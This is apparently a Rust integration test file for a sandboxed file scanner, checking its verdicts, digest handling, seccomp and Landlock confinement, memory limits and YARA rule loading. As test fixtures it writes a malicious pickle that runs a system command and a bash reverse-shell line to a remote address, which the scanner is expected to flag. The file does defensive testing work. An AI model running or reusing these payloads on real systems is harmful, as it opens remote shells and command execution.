//! The scanner as a process: what it judges, what it cannot do even when it tries, and how it ends.

#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "a helper that fails is a test that fails")]

use nix::sys::socket::{AddressFamily, ControlMessage, MsgFlags, SockFlag, SockType, recv, send, sendmsg, setsockopt, socketpair, sockopt};
use nix::sys::time::{TimeVal, TimeValLike};
use serde_json::{Value, json};
use std::fs::{self, File};
use std::io::IoSlice;
use std::os::fd::{AsRawFd, OwnedFd};
use std::path::Path;
use std::process::{Child, Command, Stdio};

const EVIL: &[u8] = b"cos\nsystem\n(S'id'\ntR.";
/// SIGSYS: what seccomp ends a process with.
const SIGSYS: i64 = 31;
const SIGKILL: i64 = 9;
const SIGABRT: i64 = 6;

struct Scanner {
    child: Child,
    files: OwnedFd,
    control: OwnedFd,
}

fn pair() -> (OwnedFd, OwnedFd) {
    let (ours, theirs) = socketpair(AddressFamily::Unix, SockType::SeqPacket, None, SockFlag::SOCK_CLOEXEC).unwrap();
    setsockopt(&ours, sockopt::ReceiveTimeout, &TimeVal::seconds(60)).unwrap();
    (ours, theirs)
}

impl Scanner {
    fn launch(arguments: &[&str]) -> Self {
        let ((files, worker), (control, launcher)) = (pair(), pair());
        let child = Command::new(env!("CARGO_BIN_EXE_picket-scanner"))
            .arg("launch")
            .args(arguments)
            .stdin(Stdio::from(worker))
            .stdout(Stdio::from(launcher))
            .spawn()
            .unwrap();
        Self { child, files, control }
    }

    fn order(&self, order: &str) {
        send(self.control.as_raw_fd(), json!(order).to_string().as_bytes(), MsgFlags::empty()).unwrap();
    }

    fn told(&self) -> Value {
        packet(&self.control)
    }

    fn start(&self) -> Value {
        self.order("start");
        let started = self.told();
        assert!(started["started"]["pid"].is_u64(), "{started}");
        let ready = packet(&self.files);
        assert_eq!(ready["ready"]["pid"], started["started"]["pid"]);
        ready["ready"].clone()
    }

    fn send(&self, id: u64, path: &Path) {
        let file = File::open(path).unwrap();
        let request =
            json!({ "id": id, "name": path.to_string_lossy(), "size": file.metadata().unwrap().len(), "time_ms": 10_000, "hash_up_to": 1 << 20 }).to_string();
        let fds = [file.as_raw_fd()];
        sendmsg::<()>(self.files.as_raw_fd(), &[IoSlice::new(request.as_bytes())], &[ControlMessage::ScmRights(&fds)], MsgFlags::empty(), None).unwrap();
    }

    fn scan(&self, id: u64, path: &Path) -> Value {
        self.send(id, path);
        let reply = packet(&self.files);
        assert_eq!(reply["done"]["id"], id, "{reply}");
        reply["done"].clone()
    }

    /// What became of a worker that was told to try something.
    fn attempt(arguments: &[&str]) -> Value {
        let scanner = Self::launch(arguments);
        scanner.order("start");
        assert!(scanner.told()["started"]["pid"].is_u64());
        scanner.told()["exited"].clone()
    }
}

impl Drop for Scanner {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn packet(socket: &OwnedFd) -> Value {
    let mut buffer = vec![0; 256 << 10];
    let length = recv(socket.as_raw_fd(), &mut buffer, MsgFlags::empty()).unwrap();
    serde_json::from_slice(buffer.get(..length).unwrap()).unwrap_or_else(|error| panic!("{length} bytes: {error}"))
}

#[test]
fn passed_files_are_judged_one_after_another() {
    let folder = tempfile::tempdir().unwrap();
    let (evil, clean, shell) = (folder.path().join("evil.pkl"), folder.path().join("clean.pkl"), folder.path().join("run.sh"));
    fs::write(&evil, EVIL).unwrap();
    fs::write(&clean, b"\x80\x02N.").unwrap();
    fs::write(&shell, b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n").unwrap();
    let scanner = Scanner::launch(&[]);
    let ready = scanner.start();
    assert_eq!(ready["rules"].as_str().unwrap().len(), 64);
    for (id, path, verdict) in [(1, &evil, "malicious"), (2, &clean, "clean"), (3, &shell, "malicious"), (4, &evil, "malicious")] {
        let done = scanner.scan(id, path);
        assert_eq!(done["report"]["verdict"], verdict, "{done}");
        assert!(done["bytes_read"].as_u64().unwrap() > 0 && done["report"]["sha256"].as_str().unwrap().len() == 64, "{done}");
    }
    // Hundreds of files leave no descriptor behind, of which there are few.
    for id in 5..300 {
        assert_eq!(scanner.scan(id, &clean)["report"]["verdict"], "clean");
    }
}

/// The verdict is that of the bytes that were digested, whatever the file becomes while the worker asks.
#[test]
fn what_was_digested_is_what_is_judged() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("model.pkl");
    let scanner = Scanner::launch(&[]);
    scanner.start();
    let ask = |id: u64, size: u64| {
        let file = File::open(&path).unwrap();
        let request = json!({ "id": id, "name": "model.pkl", "size": size, "time_ms": 10_000, "hash_up_to": 64 << 20, "ask": true }).to_string();
        let fds = [file.as_raw_fd()];
        sendmsg::<()>(scanner.files.as_raw_fd(), &[IoSlice::new(request.as_bytes())], &[ControlMessage::ScmRights(&fds)], MsgFlags::empty(), None).unwrap();
        packet(&scanner.files)
    };
    let answer = |id: u64, judge: bool| {
        let answer = json!({ "id": id, "judge": judge }).to_string();
        send(scanner.files.as_raw_fd(), answer.as_bytes(), MsgFlags::empty()).unwrap();
    };
    let clean = b"\x80\x02N.";
    fs::write(&path, EVIL).unwrap();
    let size = EVIL.len() as u64;
    let digest = ask(1, size)["digest"].clone();
    assert_eq!((digest["id"].as_u64(), digest["bytes_read"].as_u64()), (Some(1), Some(size)));
    // Harmless by now, of the same length and under the same inode: the verdict is of what was read.
    fs::write(&path, [&clean[..], &vec![0; EVIL.len() - clean.len()]].concat()).unwrap();
    answer(1, true);
    let done = packet(&scanner.files)["done"].clone();
    assert_eq!((&done["report"]["verdict"], &done["report"]["sha256"], done["bytes_read"].as_u64()), (&json!("malicious"), &digest["sha256"], Some(size)));
    // Known bytes: nothing more is said, and the next file is served.
    fs::write(&path, clean).unwrap();
    assert!(ask(2, 4)["digest"]["sha256"].is_string());
    answer(2, false);
    assert!(ask(3, 4)["digest"]["sha256"].is_string());
    answer(3, true);
    let done = packet(&scanner.files)["done"].clone();
    assert_eq!((&done["report"]["verdict"], &done["name_counts_by_ending"]), (&json!("clean"), &json!(true)));
    // A file that is shorter than it was is not asked about, and is not clean.
    let done = ask(4, 400)["done"].clone();
    assert_eq!((&done["id"], &done["report"]["completeness"], &done["report"]["sha256"]), (&json!(4), &json!("partial"), &Value::Null));
}

/// Digesting for a verdict ends at a size; above it a file is judged as ever, by what decides.
#[test]
fn a_large_file_is_not_read_for_its_digest() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("model.safetensors");
    let header = format!(r#"{{"w":{{"dtype":"U8","shape":[{0}],"data_offsets":[0,{0}]}}}}"#, 100 << 20);
    fs::write(&path, [&(header.len() as u64).to_le_bytes()[..], header.as_bytes()].concat()).unwrap();
    let size = 8 + header.len() as u64 + (100 << 20);
    File::options().write(true).open(&path).unwrap().set_len(size).unwrap();
    let scanner = Scanner::launch(&[]);
    scanner.start();
    let file = File::open(&path).unwrap();
    let request = json!({ "id": 1, "name": "model.safetensors", "size": size, "time_ms": 10_000, "hash_up_to": 64 << 20, "ask": true }).to_string();
    let fds = [file.as_raw_fd()];
    sendmsg::<()>(scanner.files.as_raw_fd(), &[IoSlice::new(request.as_bytes())], &[ControlMessage::ScmRights(&fds)], MsgFlags::empty(), None).unwrap();
    let done = packet(&scanner.files)["done"].clone();
    assert_eq!((&done["report"]["verdict"], &done["report"]["sha256"]), (&json!("clean"), &Value::Null));
    assert!(done["bytes_read"].as_u64().unwrap() < 1 << 20, "{done}");
}

#[test]
fn it_says_how_it_is_locked_in() {
    let scanner = Scanner::launch(&[]);
    let ready = scanner.start();
    let parts: Vec<&str> = ready["sandbox"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
    for part in ["no_new_privs", "without capabilities", "landlock: ", "seccomp: ", "network"] {
        assert!(parts.iter().any(|one| one.contains(part)), "{part}: {parts:?}");
    }
    let status = fs::read_to_string(format!("/proc/{}/status", ready["pid"])).unwrap();
    let field = |name: &str| status.lines().find_map(|line| line.strip_prefix(name)).unwrap().trim().to_owned();
    assert_eq!((field("Seccomp:").as_str(), field("NoNewPrivs:").as_str()), ("2", "1"));
    for set in ["CapInh:", "CapPrm:", "CapEff:", "CapAmb:"] {
        assert_eq!(u64::from_str_radix(&field(set), 16).unwrap(), 0, "{set}");
    }
    if nix::unistd::geteuid().is_root() {
        assert!(!field("Uid:").split_whitespace().any(|uid| uid == "0"), "{}", field("Uid:"));
        let launcher = fs::read_to_string(format!("/proc/{}/status", scanner.child.id())).unwrap();
        let held = launcher.lines().find_map(|line| line.strip_prefix("CapEff:")).map(|text| u64::from_str_radix(text.trim(), 16).unwrap()).unwrap();
        // CAP_KILL 5, CAP_SETGID 6, CAP_SETUID 7.
        assert_eq!(held, 0b1110_0000);
    }
}

#[test]
fn what_a_taken_worker_tries_ends_it() {
    for attempt in ["open-file", "write-file", "connect-tcp", "connect-unix", "start-program", "start-thread"] {
        let exited = Scanner::attempt(&["--self-test", attempt]);
        assert_eq!(exited["signal"].as_i64(), Some(SIGSYS), "{attempt}: {exited}");
        assert!(!exited["last_words"].as_str().unwrap().contains("worked"), "{attempt}: {exited}");
    }
}

#[test]
fn files_are_refused_without_seccomp_too() {
    let exited = Scanner::attempt(&["--self-test", "write-file", "--self-test-without-seccomp"]);
    let words = exited["last_words"].as_str().unwrap();
    // Landlock, where the kernel has it; in any case the limit on what may be written.
    let landlock = Scanner::launch(&[]).start()["sandbox"].as_array().unwrap().iter().any(|part| part.as_str().unwrap().contains("everything refused"));
    if landlock {
        assert!(words.contains("PermissionDenied"), "{exited}");
        let exited = Scanner::attempt(&["--self-test", "open-file", "--self-test-without-seccomp"]);
        assert!(exited["last_words"].as_str().unwrap().contains("PermissionDenied"), "{exited}");
    } else {
        eprintln!("SKIPPED files_are_refused_without_seccomp_too: this kernel has no Landlock");
    }
}

#[test]
fn sockets_lead_nowhere_without_seccomp_too() {
    if !nix::unistd::geteuid().is_root() {
        eprintln!("SKIPPED sockets_lead_nowhere_without_seccomp_too: needs root for the network namespace");
        return;
    }
    let listener = std::net::TcpListener::bind("127.0.0.1:9");
    let exited = Scanner::attempt(&["--self-test", "connect-tcp", "--self-test-without-seccomp"]);
    drop(listener);
    let words = exited["last_words"].as_str().unwrap();
    assert!(words.contains("refused") && !words.contains("worked"), "{exited}");
}

#[test]
fn a_worker_that_hogs_memory_dies_and_says_of_what() {
    let exited = Scanner::attempt(&["--self-test", "hog-memory"]);
    assert_eq!(exited["signal"].as_i64(), Some(SIGABRT), "{exited}");
    assert!(exited["last_words"].as_str().unwrap().contains("memory allocation"), "{exited}");
}

#[test]
fn a_worker_is_killed_in_the_middle_and_the_next_one_works() {
    let folder = tempfile::tempdir().unwrap();
    let clean = folder.path().join("clean.pkl");
    fs::write(&clean, b"\x80\x02N.").unwrap();
    let scanner = Scanner::launch(&["--self-test", "slow"]);
    scanner.start();
    scanner.send(1, &clean);
    scanner.order("kill");
    assert_eq!(scanner.told()["exited"]["signal"].as_i64(), Some(SIGKILL));
    // The next worker is as the first.
    scanner.start();
}

#[test]
fn packs_that_do_not_compile_are_told_and_the_others_are_used() {
    let folder = tempfile::tempdir().unwrap();
    let shared = |name: &str, text: &str| {
        let path = folder.path().join(name);
        fs::write(&path, text).unwrap();
        path.to_string_lossy().into_owned()
    };
    // The worker is another user.
    std::os::unix::fs::chown(folder.path(), None, None).unwrap();
    fs::set_permissions(folder.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let (good, bad) = (shared("good.yar", "rule mark { strings: $a = \"the-mark\" condition: $a }"), shared("bad.yar", "rule bad {\n condition: $x\n}"));
    let marked = folder.path().join("notes.txt");
    fs::write(&marked, "here is the-mark").unwrap();
    let scanner = Scanner::launch(&["--yara", &good, "--yara", &bad, "--yara", "/nowhere/at/all"]);
    let ready = scanner.start();
    let errors: Vec<&str> = ready["rules_errors"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
    assert!(errors.iter().any(|error| error.contains("bad.yar:2:")) && errors.iter().any(|error| error.contains("/nowhere/at/all")), "{errors:?}");
    assert_eq!(scanner.scan(1, &marked)["report"]["findings"][0]["rule_id"], "YARA:good.mark");
}

#[test]
fn everything_ends_with_the_agent() {
    let mut scanner = Scanner::launch(&[]);
    let pid = scanner.start()["pid"].as_u64().unwrap();
    let (files, worker) = pair();
    let (control, launcher) = pair();
    drop((worker, launcher));
    // The agent's ends are closed.
    drop(std::mem::replace(&mut scanner.files, files));
    drop(std::mem::replace(&mut scanner.control, control));
    assert!(scanner.child.wait().unwrap().success());
    let gone = (0..100).any(|_| {
        std::thread::sleep(std::time::Duration::from_millis(20));
        !Path::new(&format!("/proc/{pid}")).exists()
    });
    assert!(gone, "the worker outlives its launcher");
}
